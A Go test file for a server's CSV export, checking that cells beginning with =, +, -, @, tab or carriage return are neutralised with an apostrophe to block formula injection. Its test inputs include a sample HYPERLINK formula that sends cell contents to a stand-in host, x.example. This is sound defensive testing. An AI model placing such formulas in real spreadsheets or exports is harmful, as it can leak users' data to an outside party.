package server

import (
	"errors"
	"strings"
	"testing"

	"github.com/policyflow/policyflow/evaluation"
)

func TestCSVCellGuardsFormulas(t *testing.T) {
	for _, c := range []struct {
		name    string
		in      string
		numeric bool
		want    string
	}{
		{"empty", "", false, ""},
		{"plain text", "Budi Santoso", false, "Budi Santoso"},
		{"equals", `=HYPERLINK("http://x.example/?"&A1,"klik")`, false, `'=HYPERLINK("http://x.example/?"&A1,"klik")`},
		{"plus", "+62 812 555", false, "'+62 812 555"},
		{"minus", "-2+3", false, "'-2+3"},
		{"at", "@SUM(1)", false, "'@SUM(1)"},
		{"tab", "\tX", false, "'\tX"},
		{"carriage return", "\rX", false, "'\rX"},
		{"formula later in the cell", "Budi =1+1", false, "Budi =1+1"},
		{"leading space", " =1", false, " =1"},
		{"negative number as text", "-3", false, "'-3"},
		{"negative number", "-3", true, "-3"},
		{"negative decimal", "-12.50", true, "-12.50"},
		{"number", "75.00", true, "75.00"},
		{"formula in a numeric column", "-2+3", true, "'-2+3"},
		{"exponent in a numeric column", "-1e3", true, "'-1e3"},
		{"plus number in a numeric column", "+3", true, "'+3"},
		{"lone minus in a numeric column", "-", true, "'-"},
		{"dangling dot in a numeric column", "-3.", true, "'-3."},
		{"formula in a numeric column", "=1+1", true, "'=1+1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := csvCell(c.in, c.numeric); got != c.want {
				t.Errorf("csvCell(%q, %v) = %q, want %q", c.in, c.numeric, got, c.want)
			}
		})
	}
}

func TestWriteLedgerCSV(t *testing.T) {
	var b strings.Builder
	rows := []evaluation.LedgerRow{
		{NIP: "199203032019021006", Name: "Tono", UnitCode: "=DISDIK", JP: 0, BelowMinimum: true},
		{NIP: "198503122010011002", Name: "@SUM(1)", UnitCode: "BKPSDM", JP: 22},
		{NIP: "199203032019022010", Name: "Nasution, Ahmad \"Buyung\"", UnitCode: "BKPSDM", JP: 24},
		{NIP: "199203032019022011", Name: "\tX", UnitCode: "BKPSDM", JP: 20},
	}
	if err := writeLedgerCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	want := "nip,nama,unit,jp,di_bawah_minimum\n" +
		"199203032019021006,Tono,'=DISDIK,0,ya\n" +
		"198503122010011002,'@SUM(1),BKPSDM,22,tidak\n" +
		"199203032019022010,\"Nasution, Ahmad \"\"Buyung\"\"\",BKPSDM,24,tidak\n" +
		"199203032019022011,'\tX,BKPSDM,20,tidak\n"
	if got := b.String(); got != want {
		t.Errorf("CSV =\n%q\nwant\n%q", got, want)
	}
}

func TestWriteEvaluationsCSV(t *testing.T) {
	var b strings.Builder
	skm, kp := 75.0, -1.5 // no real score is negative: it shows numbers pass unguarded
	rows := []evaluationRowView{{Band: "C"}, {Band: "+"}}
	rows[0].Round, rows[0].UnitName, rows[0].Status, rows[0].SKM, rows[0].Kirkpatrick = 1, "=Dinas", "done", &skm, &kp
	rows[1].Round, rows[1].UnitName, rows[1].Status = 2, "Dinas Pendidikan", "pending"
	if err := writeEvaluationsCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	want := "putaran,unit,jatuh_tempo,status,ikm,mutu,kirkpatrick\n" +
		"1,'=Dinas,0001-01-01,done,75.00,C,-1.50\n" +
		"2,Dinas Pendidikan,0001-01-01,pending,,'+,\n"
	if got := b.String(); got != want {
		t.Errorf("CSV =\n%s\nwant\n%s", got, want)
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk penuh") }

func TestWriteLedgerCSVError(t *testing.T) {
	if err := writeLedgerCSV(failingWriter{}, []evaluation.LedgerRow{{NIP: "1"}}); err == nil {
		t.Error("want the writer's error")
	}
}
